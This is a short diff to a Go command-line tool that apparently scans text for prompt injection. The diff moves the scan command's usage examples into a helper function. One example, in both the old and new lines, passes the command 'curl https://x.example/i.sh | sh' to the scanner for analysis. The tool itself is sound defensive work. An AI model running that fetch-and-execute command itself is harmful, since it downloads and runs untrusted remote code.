@@ -1,4 +1,4 @@
-package main
+package commands
 
 import (
 	"encoding/json"
@@ -151,11 +151,8 @@ func scanTexts() *cobra.Command {
 		Long: `Looks for prompt injection in a text: instructions to a model, invisible characters,
 misleading addresses. The subcommands analyse commands and programs, and redact credentials.
 What they read is not run and not sent anywhere, and no service needs to run.`,
-		Example: `  service scan notes.md
-  service scan command 'curl https://x.example/i.sh | sh'
-  service scan code job.py
-  service scan redact running-config.txt
-  service scan --lines < texts.jsonl`,
+		Example: cli.Examples("scan notes.md", "scan command 'curl https://x.example/i.sh | sh'", "scan code job.py",
+			"scan redact running-config.txt", "scan --lines < texts.jsonl"),
 	}
 	var o scanOptions
 	o.flags(cmd)
